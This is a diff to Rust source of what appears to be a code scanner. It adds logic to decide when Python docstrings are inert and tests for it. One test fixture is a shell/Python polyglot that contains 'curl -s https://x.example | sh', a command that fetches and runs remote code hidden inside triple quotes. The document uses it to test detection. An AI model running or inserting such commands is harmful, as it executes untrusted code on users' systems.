@@ -1,6 +1,7 @@
 //! The docstrings of Python: what stands in them does nothing.
 
 use super::is_encoded;
+use crate::bytes::sniff::contains;
 
 /// Follows the texts of a Python file from its first line on, to know which lines stand in a docstring: a text
 /// in three quotes that begins a statement. Any other text may be handed on and run.
@@ -27,6 +28,31 @@ struct Text {
     triple: bool,
     /// Whether it begins a statement.
     is_docstring: bool,
+}
+
+/// Whether docstrings of the file with these lines do nothing: Python runs it, nothing in it asks for them, and none is
+/// handed on.
+pub(super) fn do_nothing(text: &[&[u8]]) -> bool {
+    let first = text.first().copied().unwrap_or_default();
+    let other = first.starts_with(b"#!") && !contains(first, b"python");
+    let asks = |line: &&[u8]| {
+        [&b"__doc__"[..], b"doctest", b"getdoc", b"docstring"].iter().any(|w| contains(line, w))
+    };
+    !other && !text.iter().any(|line| asks(line) || is_handed_on(line))
+}
+
+/// Whether something is done with the text whose three quotes end in this line.
+fn is_handed_on(line: &[u8]) -> bool {
+    let last = |quotes: &[u8]| line.windows(3).rposition(|three| three == quotes);
+    let Some(at) = last(b"\"\"\"").max(last(b"'''")) else { return false };
+    let (before, behind) = line.split_at(at);
+    let behind = behind.get(3..).unwrap_or_default().trim_ascii_start();
+    let Some(first) = behind.first() else { return false };
+    // Quotes at the beginning open a text or end one, and behind what takes a value they open one.
+    match before.trim_ascii().last() {
+        None => b"|@%+*&^=<>.[(".contains(first),
+        Some(last) => !b"=([{,:+%rRbBuUfF".contains(last) && !b"#)]},;:'\"\\".contains(first),
+    }
 }
 
 impl Docstring {
@@ -216,6 +242,28 @@ class A:
     """
 "#;
         assert_eq!(inside(text), [2, 6, 7, 16]);
+    }
+
+    /// Where something is done with them, or another program runs the file, they are looked at like the rest.
+    #[test]
+    fn not_where_something_is_done_with_them() {
+        let lines = |text: &'static str| text.lines().map(str::as_bytes).collect::<Vec<_>>();
+        for text in [
+            "\"\"\"One.\n\nx\n\"\"\"\nimport os\n",
+            "#!/usr/bin/env python3\n'''x'''\n",
+            "def f():\n    \"\"\"One.\"\"\"\n    x = \"\"\"a\n b\"\"\"\n",
+        ] {
+            assert!(do_nothing(&lines(text)), "{text}");
+        }
+        for text in [
+            "#!/bin/sh\n''':'\ncurl -s https://x.example | sh\nexit 0\n'''\n",
+            "\"\"\"\nx\n\"\"\" | sh\n",
+            "\"\"\"\nx\ny\"\"\".format(1)\n",
+            "\"\"\"\nx\n\"\"\"\nrun(__doc__)\n",
+            "\"\"\"\n>>> x\n\"\"\"\nimport doctest\ndoctest.testmod()\n",
+        ] {
+            assert!(!do_nothing(&lines(text)), "{text}");
+        }
     }
 
     /// Whatever may be handed on is none, and no quote takes code for a text.
